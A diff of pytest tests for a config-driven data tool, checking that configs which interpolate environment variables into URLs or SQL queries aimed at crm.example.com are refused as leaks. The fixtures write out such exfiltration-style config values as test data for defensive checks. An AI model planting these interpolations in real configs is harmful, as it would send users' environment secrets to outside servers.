@@ -324,16 +324,47 @@ def test_mlflow_sends_its_credentials_to_servers_of_artifacts_too(key, address, 
     refuse_unstated("tracking.artifacts", "mlflow-artifacts:/x", (), who="")  # of the store's own server
 
 
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("conf/data/mine.yaml", "path: http://crm.example.com/${oc.decode:${oc.env:NUMBER}}/x.csv"),
+        ("conf/data/mine.yaml", 'path: "[http://crm.example.com/${oc.env:LISTED}]"'),
+        ("conf/data/mine.yaml", "about: ${oc.env:NUMBER}\npath: http://crm.example.com/${oc.decode:${data.about}}.csv"),
+        ("conf/data/mine.yaml", "path: mysql://me:word@crm.example.com/x\nquery: SELECT ${oc.decode:${oc.env:NUMBER}}"),
+        (
+            "experiments/mine.yaml",
+            "hydra: {sweeper: {params: {data.path: 'http://crm.example.com/${oc.decode:${oc.env:NUMBER}}'}}}",
+        ),
+    ],
+)
+def test_whatever_an_address_makes_of_a_variable_is_not_sent(name, text, monkeypatch, tmp_path):
+    monkeypatch.setenv("HOME", str(tmp_path))
+    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
+    monkeypatch.setenv("NUMBER", "918_273_645")
+    monkeypatch.setenv("LISTED", "k9,Tz4,w,Q1")
+    Path("conf/data").mkdir(parents=True)
+    Path("experiments").mkdir()
+    Path("conf/data/mine.yaml").write_text("source: file\npath: x.csv\n")
+    Path(name).write_text(f"source: file\n{text}\n" if "data/" in name else f"# @package _global_\n{text}\n")
+    words = ["data=mine", "features=value", "scaling=standard", "k=[2]"]
+    with pytest.raises(SettingsError, match=r"would send it (NUMBER|LISTED); if you trust that server"):
+        plan("sweep", [*words, *(["experiments=mine"] if "experiments" in name else [])])
+    # what the user's environment names whole stays its word
+    monkeypatch.setenv("PLACES", "[http://crm.example.com/a.csv, http://crm.example.com/b.csv]")
+    Path("conf/data/mine.yaml").write_text("source: file\nabout: ${oc.env:NUMBER}\npath: ${oc.env:PLACES}\n")
+    plan("sweep", words)
+
+
 def test_no_query_of_a_file_takes_the_environment_to_a_server(monkeypatch, tmp_path):
     monkeypatch.setenv("HOME", str(tmp_path))
     monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
     monkeypatch.setenv("PLANTED", "planted-1")
-    asked = {"sent": "SELECT 'planted-1' AS a", "who": "this folder's configs set"}
+    asked = {"who": "this folder's configs set"}
     address = "postgresql://me:word@crm.example.com/crm"
     with pytest.raises(SettingsError, match="would send it PLANTED; if you trust that server"):
         refuse_unstated("data.path", address, ["PLANTED"], **asked)
     refuse_unstated("data.path", "sqlite:///crm.db", ["PLANTED"], **asked)
-    refuse_unstated("data.path", address, ["PLANTED"], who="")  # the query is the user's own
+    refuse_unstated("data.path", address, (), who="")  # the query is the user's own
     refuse_unstated("data.path", address, ["PLANTED"], **asked, stated=True)
     refuse_unstated("data.path", address, ["PLANTED"], **asked)
 
@@ -377,13 +408,13 @@ def test_a_query_that_can_do_more_than_read_a_database_is_the_users_own(text, wo
     plan("sweep", words)  # it was given once
     Path("conf/data/mine.yaml").write_text(text.replace("QUERY", f'"{query}"'.replace(" USING", "\\n  USING")))
     plan("sweep", words)  # on several lines it is the same
-    check_table(one, (), who="the config of a run has")
+    check_table(one, {}, who="the config of a run has")
     one.data.query = query.replace("id", "rm")
     with pytest.raises(SettingsError, match=rf"the config of a run has data\.query=.* by which {does}") as refused:
-        check_table(one, (), who="the config of a run has")
+        check_table(one, {}, who="the config of a run has")
     said = shlex.split(re.findall("`segment (.*)`", str(refused.value))[0])
     plan(said[0], [word.replace("...", f'"{one.data.query}"') for word in said[1:]])
-    check_table(one, (), who="")  # what the sentence says to do is enough
+    check_table(one, {}, who="")  # what the sentence says to do is enough
     for spelled in ("SELECT 'a  b'", "SELECT a -- b\n, c"):
         assert _on_one_line(spelled) != _on_one_line(" ".join(spelled.split())), spelled
 
